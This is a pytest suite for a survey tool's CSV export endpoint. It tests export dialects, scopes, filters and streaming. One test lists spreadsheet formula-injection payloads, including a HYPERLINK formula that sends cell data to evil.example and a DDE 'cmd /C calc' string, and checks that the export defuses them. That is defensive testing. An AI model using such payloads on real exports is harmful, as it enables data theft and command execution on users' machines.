"""GET /surveys/<id>/responses.csv: both dialects parsed back, formulas defused, streamed."""

import csv
import io
import tracemalloc

import pytest

from server.core.periods import local_today
from server.models import utcnow
from tests.api.apiutil import answer, answers, bearer
from tests.helpers import assert_error

BASIC = ["id", "created_at", "score", "group", "comment", "touchpoint", "segment", "reference",
         "language", "themes", "followup"]
CONTACT = ["consent_at", "consent_version", "contact"]


@pytest.fixture
def survey(make):
    return make.survey(make.site(), consent_mode="optional")


def download(client, survey, token, query=""):
    response = client.get(f"/api/v1/surveys/{survey.id}/responses.csv{query}",
                          headers=bearer(token))
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def parse(response, delimiter=","):
    text = response.get_data().decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_standard_dialect(client, make, survey):
    answer(survey, 9, "2026-05-04 23:30", comment='Snel, "netjes" en\nop tijd',
           touchpoint="checkout", segment="nieuw", reference="A-1001",
           themes=["delivery", "price"])
    answer(survey, 5, "2026-05-05 10:00", followup="contacted")
    response = download(client, survey, make.token(survey.site))
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert not response.get_data().startswith(b"\xef\xbb\xbf")
    rows = parse(response)
    assert rows[0] == BASIC
    assert rows[1][1:] == ["2026-05-04T21:30:00Z", "9", "promotor", 'Snel, "netjes" en\nop tijd',
                           "checkout", "nieuw", "A-1001", "nl", "delivery, price", ""]
    assert rows[2][2:4] == ["5", "criticaster"] and rows[2][-2:] == ["", "contacted"]
    assert len(rows) == 3


def test_excel_nl_dialect_opens_in_columns(client, make, survey):
    answer(survey, 7, "2026-05-04 23:30", comment="Prima; al duurde het 1,5 dag",
           themes=["delivery"], followup="resolved")
    answer(survey, 10, "2026-01-15 09:05")
    response = download(client, survey, make.token(survey.site), "?dialect=excel-nl")
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == ("Nummer;Datum en tijd;Score;Groep;Opmerking;Klantmoment;"
                                    "Segment;Ordernummer;Taal;Thema's;Opvolging")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # Oldest first; Amsterdam wall-clock time, day first.
    assert [r[1] for r in rows[1:]] == ["15-01-2026 09:05", "04-05-2026 23:30"]
    assert rows[2][3:5] == ["passief", "Prima; al duurde het 1,5 dag"]
    # Themes by the names the owner reads in the dashboard, the follow-up as the inbox says.
    assert rows[2][-2:] == ["Levering", "Opgelost"] and rows[1][-2:] == ["", ""]


def test_csat_and_ces_have_no_nps_group(client, make):
    survey = make.survey(metric="csat")
    answers(survey, [5])
    rows = parse(download(client, survey, make.token(survey.site)))
    assert rows[1][2:4] == ["5", ""]


@pytest.mark.parametrize("dialect", ["standard", "excel-nl"])
def test_cells_that_would_run_as_formulas_are_neutralised(client, make, survey, dialect):
    dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 12345678",
                 "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "\uff1dSUM(1)", " =1+1",
                 "\u00a0\u200b@SUM(A1)", "\x01+1", "\u2212 1", "\uff20A1", "\ufe62 2"]
    for text in dangerous:
        answer(survey, 8, comment=text, reference="=1+1" if text.startswith("=") else None,
               contact="=cmd|' /C calc'!A0@x.nl", consent_at=utcnow(), consent_version=1)
    answer(survey, 8, comment="Gewoon goed - echt waar = top", segment="vast")
    response = download(client, survey, make.token(survey.site, "export"), f"?dialect={dialect}")
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""),
                           delimiter=";" if dialect == "excel-nl" else ","))
    comments = [row[4] for row in rows[1:]]
    assert comments == ["'" + t for t in dangerous] + ["Gewoon goed - echt waar = top"]
    assert rows[1][7] == "'=1+1" and rows[1][-1] == "'=cmd|' /C calc'!A0@x.nl"
    for row in rows[1:]:
        assert not row[4].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[-1][6] == "vast"


def test_contact_columns_only_with_the_export_scope(client, make, survey):
    answer(survey, 9, "2026-05-04 12:00", contact="klant@example.nl",
           consent_at=utcnow().replace(2026, 5, 4, 10, 0, 0, 0), consent_version=2)
    read = parse(download(client, survey, make.token(survey.site, "read")))
    export = parse(download(client, survey, make.token(survey.site, "export")))
    assert read[0] == BASIC and len(read[1]) == len(BASIC)
    assert "klant@example.nl" not in "".join(read[1])
    assert export[0] == BASIC + CONTACT
    assert export[1][-3:] == ["2026-05-04T10:00:00Z", "2", "klant@example.nl"]


def test_file_name_and_headers(client, make, survey):
    response = download(client, survey, make.token(survey.site))
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="tevreden-{survey.id}-{local_today().isoformat()}.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    assert parse(response) == [BASIC]  # no answers: just the header
    excel = download(client, survey, make.token(survey.site), "?dialect=excel-nl")
    assert excel.headers["Content-Disposition"] == (
        f'attachment; filename="tevreden-{survey.id}-{local_today().isoformat()}-excel.csv"')


def test_filters_apply(client, make, survey):
    answer(survey, 9, "2026-05-04 23:30", touchpoint="checkout", segment="nieuw")
    answer(survey, 3, "2026-05-05 00:30", touchpoint="klantenservice")
    token = make.token(survey.site)
    assert [r[2] for r in parse(download(client, survey, token, "?to=2026-05-04"))[1:]] == ["9"]
    assert [r[2] for r in parse(download(client, survey, token, "?from=2026-05-05"))[1:]] == ["3"]
    assert [r[2] for r in parse(download(client, survey, token,
                                         "?touchpoint=klantenservice"))[1:]] == ["3"]
    assert [r[2] for r in parse(download(client, survey, token, "?segment=nieuw"))[1:]] == ["9"]


@pytest.mark.parametrize(("query", "field"), [("?dialect=excel-de", "dialect"),
                                              ("?from=2026-02-30", "from"),
                                              ("?touchpoint=nergens", "touchpoint")])
def test_bad_parameters_are_422(client, make, survey, query, field):
    response = client.get(f"/api/v1/surveys/{survey.id}/responses.csv{query}",
                          headers=bearer(make.token(survey.site)))
    assert_error(response, 422, "invalid", field=field)


def test_streamed_in_chunks_with_bounded_memory(client, make, survey):
    comment = "x" * 2000
    answers(survey, [n % 11 for n in range(4000)], comment=comment)  # about 8 MB of CSV
    response = client.get(f"/api/v1/surveys/{survey.id}/responses.csv",
                          headers=bearer(make.token(survey.site)), buffered=False)
    assert response.is_streamed
    tracemalloc.start()
    try:
        sizes, rows = [], 0
        for chunk in response.response:
            sizes.append(len(chunk))
            rows += chunk.count(comment.encode() if isinstance(chunk, bytes) else comment)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        response.close()
    assert rows == 4000 and len(sizes) > 100
    assert max(sizes) < 100_000  # a few rows at a time, never the whole file
    # One batch of rows from the database cursor at most, far below the 8 MB of the file.
    assert peak < 3_000_000, peak
